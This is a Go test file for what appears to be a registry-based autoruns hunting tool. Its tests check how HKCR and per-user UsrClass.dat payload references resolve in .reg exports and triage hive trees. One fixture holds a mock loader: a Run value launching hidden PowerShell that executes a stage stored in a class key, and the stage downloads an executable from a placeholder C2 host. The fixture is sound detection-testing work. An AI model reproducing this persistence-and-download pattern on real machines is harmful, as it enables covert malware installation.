package autoruns_test

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/runkeyhunt/runkeyhunt/tables/autoruns"
	"github.com/runkeyhunt/runkeyhunt/tables/registry/hivefile/hivetest"
)

// hkcrReg is a .reg export whose payload lives under HKEY_CLASSES_ROOT
// (reg export HKCR spells it so) and is read by a Run value through the
// PowerShell drive HKCR:, as loaders that hide their stage in a class key
// do.
const hkcrReg = "Windows Registry Editor Version 5.00\r\n\r\n" +
	"[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n" +
	"\"Stage\"=\"powershell -nop -w hidden -c \\\"iex (Get-ItemProperty -Path 'HKCR:\\\\AppXk2v9\\\\Shell' -Name d).d\\\"\"\r\n" +
	"\"Gone\"=\"powershell -nop -w hidden -c \\\"iex (Get-ItemProperty -Path 'HKCR:\\\\AppXgone\\\\Shell' -Name d).d\\\"\"\r\n" +
	"\r\n[HKEY_CLASSES_ROOT\\AppXk2v9\\Shell]\r\n" +
	"\"d\"=\"Invoke-WebRequest http://c2.example.invalid/a -OutFile $env:TEMP\\\\a.exe\"\r\n"

// TestHKCRRegMapsToMachineClasses: HKEY_CLASSES_ROOT keys of a .reg
// export are the machine's SOFTWARE\Classes, and an HKCR: reference in a
// command reads them there; payload_path is canonical whether the value
// exists or not.
func TestHKCRRegMapsToMachineClasses(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "hkcr.reg"), []byte(hkcrReg), 0o644); err != nil {
		t.Fatal(err)
	}
	rows, err := scanTree(t, dir, t.Errorf)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]struct {
		path   string
		exists int
	}{
		"Stage": {`HKEY_LOCAL_MACHINE\SOFTWARE\Classes\AppXk2v9\Shell\d`, 1},
		"Gone":  {`HKEY_LOCAL_MACHINE\SOFTWARE\Classes\AppXgone\Shell\d`, 0},
	}
	seen := map[string]autoruns.Row{}
	for _, r := range rows {
		seen[r.Name] = r
	}
	for name, w := range want {
		r, ok := seen[name]
		if !ok {
			t.Errorf("no row for %s", name)
			continue
		}
		if r.PayloadKind != "registry" || r.PayloadPath != w.path || r.PayloadExists != w.exists {
			t.Errorf("%s: payload %s %q exists=%d, want registry %q exists=%d", name, r.PayloadKind, r.PayloadPath, r.PayloadExists, w.path, w.exists)
		}
	}
	if r := seen["Stage"]; r.PayloadPreview == "" {
		t.Error("Stage: no payload preview: the HKCR payload was not read")
	}
}

// corpusUsers are the corpus's users (its ProfileList).
var corpusUsers = map[string]string{
	"S-1-5-21-1111111111-2222222222-3333333333-1001": "alice",
	"S-1-5-21-1111111111-2222222222-3333333333-1002": "bob",
}

// splitClasses splits a user's reged input (keys under HKEY_CURRENT_USER)
// into the NTUSER.DAT part and the UsrClass.dat part: Software\Classes
// and below, rewritten to the classes hive's root.
func splitClasses(user string) (ntuser, classes string) {
	const header = "Windows Registry Editor Version 5.00\r\n\r\n"
	const prefix = `[HKEY_CURRENT_USER\Software\Classes`
	var n, c strings.Builder
	n.WriteString(header)
	c.WriteString(header)
	cur := &n
	for _, line := range strings.Split(user, "\r\n") {
		if strings.HasPrefix(line, "Windows Registry Editor") {
			continue
		}
		if strings.HasPrefix(line, "[") {
			cur = &n
			if len(line) > len(prefix) && strings.EqualFold(line[:len(prefix)], prefix) && (line[len(prefix)] == '\\' || line[len(prefix)] == ']') {
				cur = &c
				line = `[HKEY_CURRENT_USER` + line[len(prefix):]
			}
			cur.WriteString("\r\n")
		}
		cur.WriteString(line + "\r\n")
	}
	return n.String(), c.String()
}

// TestCorpusUsrClassMatchesReg builds the corpus into a KAPE-style triage
// tree where each user's Software\Classes is a UsrClass.dat of its own
// (C/Users/<name>/AppData/Local/Microsoft/Windows/UsrClass.dat, beside
// C/Users/<name>/NTUSER.DAT without them): the rows are the .reg
// export's, the per-user COM and shell\open\command rows included, and
// name the UsrClass.dat they came from. A Run value reading its stage from
// HKCU:\Software\Classes finds it in the classes hive.
func TestCorpusUsrClassMatchesReg(t *testing.T) {
	hivetest.RequireTools(t)
	raw, err := os.ReadFile(filepath.Join(corpusDir, "corpus.reg"))
	if err != nil {
		t.Fatal(err)
	}
	machine, users := splitByHive(string(raw))
	root := t.TempDir()
	hivetest.BuildSoftwareHiveAt(t, filepath.Join(root, "C", "Windows", "System32", "config"), machine)
	for sid, text := range users {
		name, ok := corpusUsers[sid]
		if !ok {
			t.Fatalf("corpus has an unknown user %s", sid)
		}
		ntuser, classes := splitClasses(text)
		profile := filepath.Join(root, "C", "Users", name)
		hivetest.BuildUserHiveAt(t, profile, ntuser)
		hivetest.BuildClassesHiveAt(t, filepath.Join(profile, "AppData", "Local", "Microsoft", "Windows"), classes)
	}
	fromHives, err := scanTree(t, root, t.Errorf)
	if err != nil {
		t.Fatal(err)
	}
	fromReg := scanReg(t, "corpus.reg")
	a, b := keys(fromReg), keys(fromHives)
	if strings.Join(a, "\n") != strings.Join(b, "\n") {
		t.Errorf("NTUSER.DAT+UsrClass.dat rows differ from .reg rows:\n%s", diff(a, b))
	}
	classesRows, stage := 0, false
	for _, r := range fromHives {
		inClasses := strings.Contains(strings.ToLower(r.Path), `\software\classes\`)
		if inClasses {
			classesRows++
		}
		if inClasses != strings.HasSuffix(r.SourceFile, "UsrClass.dat") && r.Scope == "user" {
			t.Errorf("%s: source_file %s", r.Path, r.SourceFile)
		}
		if strings.Contains(r.PayloadPath, `Software\Classes\AppXk2v9`) && r.PayloadExists == 1 {
			stage = true
		}
	}
	if classesRows < 5 {
		t.Errorf("only %d rows from the classes hives: the comparison proves little", classesRows)
	}
	if !stage {
		t.Error("the Run value's stage in HKCU:\\Software\\Classes was not read from the classes hive")
	}
}

// userClassesKeys matches the corpus's per-user class keys, to spell them
// as the user's classes hive: HKEY_USERS\<SID>_Classes\...
var userClassesKeys = regexp.MustCompile(`(?im)^\[(-?)HKEY_USERS\\(S-[0-9-]+)\\Software\\Classes(\\|\])`)

// TestCorpusClassesHiveSpellingMatchesReg: a .reg export that spells the
// per-user classes as their own hive (reg export HKU\<SID>_Classes, or a
// tool that walks HKEY_USERS) gives the rows of the export that spells
// them HKEY_USERS\<SID>\Software\Classes.
func TestCorpusClassesHiveSpellingMatchesReg(t *testing.T) {
	raw, err := os.ReadFile(filepath.Join(corpusDir, "corpus.reg"))
	if err != nil {
		t.Fatal(err)
	}
	respelled, n := string(raw), 0
	respelled = userClassesKeys.ReplaceAllStringFunc(respelled, func(m string) string {
		n++
		sub := userClassesKeys.FindStringSubmatch(m)
		return "[" + sub[1] + `HKEY_USERS\` + sub[2] + "_Classes" + sub[3]
	})
	if n < 5 {
		t.Fatalf("only %d per-user class keys respelled", n)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "classes.reg"), []byte(respelled), 0o644); err != nil {
		t.Fatal(err)
	}
	fromClasses, err := scanTree(t, dir, t.Errorf)
	if err != nil {
		t.Fatal(err)
	}
	a, b := keys(scanReg(t, "corpus.reg")), keys(fromClasses)
	if strings.Join(a, "\n") != strings.Join(b, "\n") {
		t.Errorf("rows of the _Classes spelling differ from the .reg rows:\n%s", diff(a, b))
	}
}
